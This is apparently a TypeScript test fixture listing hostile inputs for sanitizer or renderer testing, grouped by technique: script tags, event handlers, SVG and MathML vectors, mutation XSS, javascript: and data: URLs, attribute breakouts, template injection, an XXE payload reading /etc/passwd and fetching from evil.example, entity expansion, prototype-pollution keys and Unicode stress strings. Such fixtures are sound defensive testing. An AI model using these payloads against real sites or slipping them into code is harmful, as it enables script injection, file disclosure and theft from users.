/** Texts that try to run something, or to break what reads them, by what each tries. Whatever runs calls `alert`. */

const evil = 'https://evil.example';

const tags = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/a.js></SCRIPT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '</script><script>alert(1)</script>',
  '</title></textarea></style></noscript><script>alert(1)</script>',
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="${evil}/a.swf">`,
  `<link rel="stylesheet" href="${evil}/a.css">`,
  `<style>@import "${evil}/a.css"; * { background: url(${evil}/b) }</style>`,
  `<base href="${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><button autofocus>go</button></form>`,
  '<portal src="javascript:alert(1)"></portal>',
];

const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<IMG """><IMG SRC=x ONERROR="alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p style="animation: x 1s" onanimationstart=alert(1)>x</p>',
  '<a href=# onclick=alert(1) onmouseover=alert(1)>x</a>',
];

const drawings = [
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  `<svg><use href="${evil}/a.svg#x"/></svg>`,
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
];

/** What one parse takes for text and the next one for a tag. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<x-script>alert(1)</x-script><x-img src=x onerror=alert(1)>',
  '<form><input name=attributes><input name=innerHTML><input name=querySelectorAll></form>',
  '<img name=body><form name=createElement id=documentElement></form>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' \u0001\u001f javascript:alert(1)',
  'java\tscr\nipt\r:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;&#97;vascript:alert(1)',
  'javascript\u0000:alert(1)',
  'javascript://news.example/%0aalert(1)',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  `blob:${evil}/0`,
  `filesystem:${evil}/a`,
  'intent://x#Intent;scheme=javascript;end',
  '//evil.example/a',
  '\\\\evil.example\\a',
  'https:evil.example',
  'https://user:javascript:alert(1)@evil.example/',
  'https://evil.example/" onerror="alert(1)" x="',
  'https://evil.example/a.png 1x, javascript:alert(1) 2x',
  'https://evil.example/a.png,javascript:alert(1)',
];

const breakouts = [
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" style="background:url(javascript:alert(1))',
  '`onfocus=alert(1)',
  '"><img src=x onerror=alert(1)>',
  "'></a><img src=x onerror=alert(1)>",
  '--><img src=x onerror=alert(1)>',
  '--!><img src=x onerror=alert(1)><!--',
  ']]><img src=x onerror=alert(1)><![CDATA[',
  ']]></description></item><item><title><![CDATA[<script>alert(1)</script>',
  '"}</script><script>alert(1)</script>{"',
  '\\"});alert(1);({"',
  '\u2028alert(1)\u2029',
];

const templates = [
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--?lit$012345678$-->',
  '<!--lit-part--><img src=x onerror=alert(1)><!--/lit-part-->',
  'lit$012345678$',
  '<div a$lit$=x @click=${alert} .innerHTML=${"<img src=x onerror=alert(1)>"}></div>',
  '<?lit$012345678$>',
  '#{alert(1)} <%= alert(1) %> [[alert(1)]]',
];

const documents = [
  `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "${evil}/x">]>&a;&b;`,
  '<!ENTITY c "cc"><!ENTITY d "&c;&c;&c;">&d;',
  '<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>',
  `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${evil}/x"/>`,
  '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
];

const styles = [
  'red; background: url(javascript:alert(1))',
  'expression(alert(1))',
  '</style><img src=x onerror=alert(1)>',
  '50% 25%; --x: url(https://evil.example/x)',
];

const names = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', '{"__proto__":{"headline":"x"}}'];

const texts = [
  '\u202egnp.exe\u202c \u2066x\u2069 \u200f',
  'a\u0000b\u0007c\u001bd\u007f',
  '\ud83d half \udc00',
  '\ufeff\u200b\u00ad',
  '\u00a0',
  'Z\u0351\u036ba\u030el\u0308g\u034ao'.repeat(20),
  '<'.repeat(500),
  '&'.repeat(500),
  '"'.repeat(500),
  'W'.repeat(20_000),
  '\u05d0'.repeat(3_000),
];

export const hostileStrings: readonly string[] = [
  ...tags,
  ...handlers,
  ...drawings,
  ...mutations,
  ...addresses,
  ...breakouts,
  ...templates,
  ...documents,
  ...styles,
  ...names,
  ...texts,
];
